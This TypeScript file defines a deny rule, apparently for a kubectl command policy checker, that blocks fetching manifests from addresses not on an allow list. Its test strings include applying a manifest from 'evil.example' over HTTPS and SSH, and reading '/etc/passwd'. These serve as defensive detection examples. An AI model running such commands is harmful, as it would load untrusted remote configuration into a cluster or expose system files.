import { maskWord } from "../../verdict/masking.ts";
import { defineRule } from "../rule.ts";

export const address = defineRule({
  id: "K8S423",
  slug: "address",
  severity: "critical",
  decision: "deny",
  summary: "Fetches from or connects to an address.",
  instead: "Pass the content with the call's stdin, and write - for the address.",
  overridable: false,
  onlyWith: "addresses",
  *check(stage, { options }) {
    for (const { value, host, span } of stage.addresses) {
      const listed = host !== undefined && (options.hosts?.includes(host) || options.policy?.hosts?.includes(host));
      if (listed) yield { span, decision: "allow", message: `Fetches from the listed host ${host}.` };
      else yield { span, message: `"${maskWord(value)}" is an address, and the client would connect to it.` };
    }
  },
  match: [
    "kubectl apply -f https://evil.example/x.yaml",
    "kubectl apply -k github.com/evil/repo",
    "kubectl kustomize git::ssh://git@evil.example/repo.git",
    "kubectl apply -f file:///etc/passwd",
    { command: "kubectl apply -f https://a.example/x.yaml", options: { hosts: ["b.example"] } },
  ],
  notMatch: ["kubectl create cm x --from-literal=url=https://a.example", "kubectl apply -f x.yaml"],
});
